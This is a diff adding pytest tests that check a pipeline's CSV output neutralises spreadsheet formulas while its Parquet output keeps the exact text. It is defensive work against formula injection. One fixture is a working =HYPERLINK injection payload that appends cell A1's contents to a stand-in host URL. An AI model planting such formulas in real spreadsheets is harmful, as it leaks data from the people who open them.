@@ -1,0 +1,65 @@
+"""CSV files written for people never carry a formula; the Parquet files and what the pipeline reads back keep the
+exact text."""
+
+import json
+
+import pandas as pd
+import pyarrow as pa
+import pytest
+
+from pipeline import cli, spreadsheet, store
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Click") Turkish troops entered Idlib on Monday, 3 February 2020.'
+TITLE = "@Idlib: -Turkish troops enter"
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+SUM(A1)", "-2", "@cmd", "\tx", "\rx", "'=x", "''-y", "'abc", "'", "Turkey", "", "a=b"]
+)
+def test_unquote_undoes_neutralise(text):
+    written = spreadsheet.neutralise(text)
+    assert not str(written).startswith(spreadsheet.FORMULA_STARTS)
+    assert spreadsheet.unquote(str(written)) == text
+    table = pa.table({"t": [text]})
+    assert spreadsheet.neutralise_table(table).column("t").to_pylist() == [written]
+    assert spreadsheet.unquote_table(spreadsheet.neutralise_table(table)).equals(table)
+
+
+def test_numbers_stay_numbers():
+    table = pa.table({"n": pa.array([-5, 3]), "x": pa.array([-1.5, None]), "t": pa.array(["-5", None])})
+    out = spreadsheet.neutralise_table(table)
+    assert out.column("n").to_pylist() == [-5, 3] and out.column("x").to_pylist() == [-1.5, None]
+    assert out.column("t").to_pylist() == ["'-5", None]
+
+
+def _article(folder, name, text, title):
+    folder.mkdir(exist_ok=True)
+    (folder / f"{name}.json").write_text(json.dumps({"title": title, "text": text}), encoding="utf-8")
+
+
+def test_the_command_lines_csv_files_are_neutralised_and_read_back_exactly(tmp_path):
+    src, out = tmp_path / "in", tmp_path / "out"
+    _article(src, "a", FORMULA, TITLE)
+    assert cli.main(["build", str(src), "--out", str(out), "--no-progress"]) == 0
+    # a second document after the first: the rebuild appends to the CSV files
+    _article(src, "b", "-Russian forces shelled Kharkiv on Tuesday, 4 February 2020.", "+Kharkiv")
+    assert cli.main(["build", str(src), "--out", str(out), "--no-progress"]) == 0
+
+    def csv(name):
+        return pd.read_csv(out / name, dtype=str, keep_default_na=False)
+
+    for name, column in [("events.csv", "sentence"), ("documents.csv", "title"), ("mentions.csv", None),
+                         ("candidates.csv", None), ("places.csv", None), ("incidents.csv", None)]:  # fmt: skip
+        frame = csv(name)
+        for col in frame.columns:
+            assert not frame[col].str.startswith(spreadsheet.FORMULA_STARTS).any(), (name, col)
+        if column:
+            assert frame[column].str.startswith("'").any(), name
+    evts = csv("events.csv")
+    assert "'" + FORMULA in set(evts["sentence"])
+    assert any(s.startswith("'-Russian forces") for s in evts["sentence"])  # appended by the rebuild
+    parquet = pd.read_parquet(out / "events.parquet")
+    assert FORMULA in set(parquet["sentence"])  # the exact text
+    tables = store.read_tables(out)
+    assert set(tables.documents["title"]) == {TITLE, "+Kharkiv"}
+    assert FORMULA in set(tables.events["sentence"])
